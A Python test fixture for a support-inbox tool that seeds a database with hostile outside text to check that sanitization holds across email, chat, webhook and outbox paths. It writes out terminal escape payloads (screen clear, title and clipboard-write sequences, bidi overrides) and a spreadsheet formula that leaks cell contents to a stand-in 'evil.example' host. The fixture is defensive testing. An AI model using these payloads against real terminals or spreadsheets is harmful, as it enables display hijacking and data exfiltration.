"""A store full of hostile outside text, for tests that prove no output lets it through raw.

Every field that can hold text from outside gets `hostile(LABEL)`: the label (so a test can
see the visible part survived) wrapped in terminal escapes (CSI, ESC[2J, OSC 0 title, OSC 52
clipboard, ESC c reset, the alternate screen, an 8-bit CSI), BEL, NUL, bidi overrides and
isolates, and invisible characters of every class the sanitizer removes.

How each field gets there (real code paths wherever one exists):
- email: customer name, subject, body, Message-ID and In-Reply-To (so the thread reason),
  Auto-Submitted, attachment filename and Content-Type, a part with an unknown charset (a
  parse error): raw RFC 5322 bytes through `parse_email` and the ingest `Pipeline`;
- chat: handle, name (a spreadsheet formula), text, reply route and a parse error (no
  parser writes raw outside text there today; a new one might): an `InboundEvent` through
  the `Pipeline`;
- business event: event name (so auto_submitted), text, customer id and name: a generic
  source's JSON body read by the receiver's parser (`read_delivery`), then the `Pipeline`;
- customer update: name, tier, attribute keys and values, an identity: `apply_customer_update`,
  the filing code of a webhook customer update (called directly: the receiver now refuses an
  unknown tier, but a store written before that still holds one);
- outbox: a reply sent through a recording "Telegram" whose answer gives a hostile message
  id, a failed receipt with a hostile reason (`apply_receipt`), and a reply refused with a
  hostile 401 body (outbox last_error and channel_health, by the real sender);
- owner, tags, queue and a pause reason: the services' actions, as a console would set
  them (and a priority of -5, a number that CSV must keep a number);
- channel_health of an IMAP folder (account and error) and a suggestion's evidence: the store
  functions directly, since no path short of a hostile IMAP server writes them, and today's
  evidence is normalized letters (a store from another version may hold anything).
"""

from __future__ import annotations

import base64
import json
import sqlite3
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote

from omnitui.channels.email.parse import parse_email
from omnitui.channels.webhooks.deliveries import read_delivery
from omnitui.config import HookChannel, Settings
from omnitui.daemon.sender import send_due
from omnitui.ingest.pending import RawItem
from omnitui.ingest.pipeline import Pipeline
from omnitui.ingest.updates import apply_customer_update, apply_receipt
from omnitui.model import (
    CustomerUpdate,
    DeliveryReceipt,
    Identifier,
    Inbound,
    InboundEvent,
    Status,
)
from omnitui.sanitize import UNSAFE_RANGES
from omnitui.services.actions import assign, edit, retag, set_status
from omnitui.services.outbound import queue_draft, start_draft
from omnitui.store import channel_state, customers
from omnitui.store.db import Store, db_time, utc_now
from tests.recording_server import recording_server

ESCAPES = ("\x1b[2J\x1b[31m\x1b]0;OWNED TITLE\x07\x1b]52;c;Y2xpcGJvYXJk\x07\x1bc\x1b[?1049h"
           "\x9b1;31m\x1b]0;8-bit title\x9c")
INVISIBLE = ("\x07\x00\x08\x7f\x85\u202e\u2066\u202a\u2069\u061c\u2060\ufeff\u00ad\u2028"
             "\u2029\u3164\u115f\ufff9\ufffb\U000e0001\U000e0041\u200d\u200c\u200b"
             "\u034f\u17b4\u180b\ufe00\ufe0f\ufff0\U000e0100")
# Everything that must never reach a terminal, a log or a script raw: every character of the
# sanitizer's classes but the line break and the tab. (ZWJ, ZWNJ, VS15 and VS16 are kept where
# emoji and some scripts need them; this data puts them nowhere they may stay.)
FORBIDDEN = frozenset(chr(p) for low, high in UNSAFE_RANGES for p in range(low, high + 1)
                      ) - {"\n", "\t"}


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'  # the chat customer's name


def hostile(label: str) -> str:
    return f"{label} {ESCAPES}{INVISIBLE}{label}\u202e end"


def forbidden_in(text: str) -> list[str]:
    """The forbidden characters found, as U+XXXX, for a readable assertion message."""
    return sorted({f"U+{ord(c):04X}" for c in text if c in FORBIDDEN})


@dataclass(frozen=True)
class HostileStore:
    db: Path
    case_ids: list[int]
    customer_ids: list[int]
    chat_case_id: int  # the Telegram conversation, with replies through tg


def fill_hostile_store(db: Path) -> HostileStore:
    """A store at `db` whose every outside-sourced field holds hostile text."""
    settings = Settings()
    with Store(db) as store:
        pipeline = Pipeline(store, settings)
        first = pipeline.ingest(parse_email(_email("first"), source="hostile-box"))
        pipeline.ingest(parse_email(_email("reply", in_reply_to="first"), source="hostile-box"))
        chat = pipeline.ingest(_chat_event())
        assert first.case_id is not None and chat.case_id is not None
        for event in _generic_event(settings):
            pipeline.ingest(event)
        with store.write() as conn:
            customer_id = _customer_update(conn, settings)
            _agent_fields(conn, first.case_id)
            edit(conn, chat.case_id, {"priority": -5}, actor="alice", at=utc_now(),
                 action="case.priority", reason="a number, not text, in CSV")
            _imap_health_and_evidence(conn, customer_id)
        _replies(store, chat.case_id)
        case_ids = [r[0] for r in store.conn.execute("SELECT id FROM cases ORDER BY id")]
        customer_ids = [r[0] for r in store.conn.execute("SELECT id FROM customers")]
    return HostileStore(db, case_ids, customer_ids, chat.case_id)


def _encoded_word(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def _email(key: str, *, in_reply_to: str = "") -> bytes:
    """Raw bytes as a hostile sender writes them: escapes raw in headers and encoded."""
    thread = f"In-Reply-To: <{_message_id(in_reply_to)}>\n" if in_reply_to else ""
    body = base64.b64encode(f"{hostile('BODY')}\nsecond line {hostile('LINE')}".encode())
    filename = quote(hostile("FILE") + ".pdf", safe="")
    headers = (
        f"From: {_encoded_word(hostile('EMAIL NAME'))} <evil-{key}@example.com>\n"
        f"To: support@example.com\n"
        f"Subject: {_encoded_word(hostile('SUBJECT ' + key))}\n"
        f"Date: Mon, 23 Nov 2026 10:00:00 +0000\n"
        f"Message-ID: <{_message_id(key)}>\n{thread}"
        f"Auto-Submitted: auto-replied \x1b]0;AUTO\x07\x1b[2J\u202e\n"
        f"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n")
    parts = (
        "--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        f"{body.decode()}\n"
        "--b\nContent-Type: text/plain; charset=\"x-\x1b[2Jbogus\x07\"\n\nodd charset\n"
        "--b\nContent-Type: application/x-\x1bc\x1b[?1049h\x9b2J\u202epdf\n"
        f"Content-Disposition: attachment; filename*=utf-8''{filename}\n"
        "Content-Transfer-Encoding: base64\n\nJVBERi0xLjQK\n--b--\n")
    return (headers + parts).encode("utf-8")


def _message_id(key: str) -> str:
    return f"{key}.\x1b]0;ID\x07\x1b[2J\u202e@example.com"


def _chat_event() -> InboundEvent:
    handle = hostile("HANDLE")
    return InboundEvent(
        channel="telegram", external_id=hostile("EXTERNAL ID"), raw=b"{}",
        occurred_at=datetime.now(UTC), identifiers=[Identifier("telegram", handle)],
        sender_name=hostile(FORMULA), text=hostile("CHAT TEXT"), source="tg",
        parse_errors=[hostile("PARSE ERROR")],
        reply_route={"hook": "tg", "chat_id": 111, "user_id": 111, "public": False,
                     "note": hostile("ROUTE")})


def _generic_event(settings: Settings) -> list[Inbound]:
    """A business event as a generic source posts it, read by the receiver's own parser."""
    forms = HookChannel("forms", "generic", secret="s", shown_as="web")
    body = json.dumps({"type": "event", "event": hostile("EVENT"), "text": hostile("ALERT"),
                       "customer": {"id": hostile("EVENT CUSTOMER"),
                                    "name": hostile("EVENT NAME")}, "severity": 2})
    return read_delivery(settings, forms, RawItem(0, "forms", datetime.now(UTC),
                                                  body.encode(), "forms:evt-1"))


def _customer_update(conn: sqlite3.Connection, settings: Settings) -> int:
    update = CustomerUpdate([Identifier("email", "evil-first@example.com"),
                             Identifier("crm", hostile("CRM ID"))],
                            name=hostile("CRM NAME"), tier=hostile("TIER"),
                            attributes={hostile("KEY"): hostile("VALUE"),
                                        "plan": [hostile("LIST ITEM")]},
                            source=hostile("SOURCE"))
    apply_customer_update(conn, update, settings.identity)
    return conn.execute("SELECT customer_id FROM identities WHERE kind = 'email'"
                        " AND value = 'evil-first@example.com'").fetchone()[0]


def _agent_fields(conn: sqlite3.Connection, case_id: int) -> None:
    now = utc_now()
    assign(conn, case_id, hostile("OWNER"), actor="alice", at=now)
    retag(conn, case_id, f"{hostile('TAG')} plain", actor="alice", at=now)
    edit(conn, case_id, {"queue": hostile("QUEUE")}, actor="alice", at=now,
         action="case.queue", reason=hostile("REASON"))
    set_status(conn, case_id, Status.PENDING, actor="alice", at=now,
               pause_reason=hostile("PAUSE REASON"))


def _imap_health_and_evidence(conn: sqlite3.Connection, customer_id: int) -> None:
    at = db_time(utc_now())
    channel_state.record_error(conn, "imap", hostile("box/INBOX"),
                               hostile("IMAP SERVER SAID"), at=at)
    other = conn.execute("SELECT id FROM customers WHERE id != ? LIMIT 1",
                         (customer_id,)).fetchone()[0]
    customers.add_suggestion(conn, kind="merge_customers", source_id=other,
                             target_id=customer_id, confidence=0.5,
                             evidence=hostile("EVIDENCE"), message_id=None, now=at)


def _replies(store: Store, case_id: int) -> None:
    """One reply sent (the API answers a hostile message id, then a failed receipt with a
    hostile reason) and one refused with a hostile 401: outbox and channel_health."""
    with recording_server() as api:
        bot = HookChannel("tg", "telegram", secret="s", token="123:hostile-TOKEN",
                          api_base=api.base_url)

        def reply(text: str) -> None:
            draft = replace(start_draft(store.conn, case_id, "reply"), text=text)
            with store.write() as conn:
                queue_draft(conn, case_id, draft, author="alice", at=utc_now())
            send_due(store, [], [bot], now=utc_now(), timeout=5)

        api.answer(200, {"ok": True, "result": {"message_id": hostile("TG MSG ID"),
                                                "chat": {"id": 111}}})
        reply("first reply")
        sent = store.conn.execute(
            "SELECT external_id FROM messages WHERE direction = 'out'").fetchone()[0]
        with store.write() as conn:
            apply_receipt(conn, DeliveryReceipt("telegram", sent, "failed", utc_now(),
                                                hostile("RECEIPT ERROR")))
        api.answer(401, {"ok": False, "error_code": 401, "description": hostile("API ERROR")})
        reply("second reply")
